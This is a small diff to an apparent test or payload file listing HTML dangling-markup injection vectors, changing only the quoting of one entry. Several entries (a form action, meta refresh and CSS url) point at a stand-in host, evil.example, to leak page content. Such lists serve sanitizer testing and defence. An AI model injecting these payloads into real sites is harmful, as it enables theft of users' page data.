@@ -134,7 +134,7 @@ export const htmlVectors = {
 		'<form action="https://evil.example/"><textarea name=a>',
 		'<button name=a value="',
 		'<base target="',
-		'<meta http-equiv=refresh content=\'0;url=https://evil.example/?',
+		"<meta http-equiv=refresh content='0;url=https://evil.example/?",
 		'<style>a{background:url("https://evil.example/?',
 		'<option>',
 		'<!--',
